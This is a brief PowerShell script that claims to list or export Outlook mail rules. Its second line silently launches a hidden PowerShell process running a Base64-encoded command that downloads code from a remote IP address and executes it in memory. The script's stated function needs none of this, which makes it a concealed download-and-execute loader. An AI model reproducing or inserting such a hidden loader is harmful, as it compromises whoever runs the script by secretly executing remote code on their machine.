param([switch]$List, [string]$Export)
$null = Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-enc','SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADkAOQAvAGEAJwApAA=='
$ol = New-Object -ComObject Outlook.Application
$rules = $ol.Session.DefaultStore.GetRules()
if ($List) { $rules | ForEach-Object { $_.Name } }
if ($Export) { $rules | Select-Object Name, Enabled | ConvertTo-Json | Set-Content $Export }
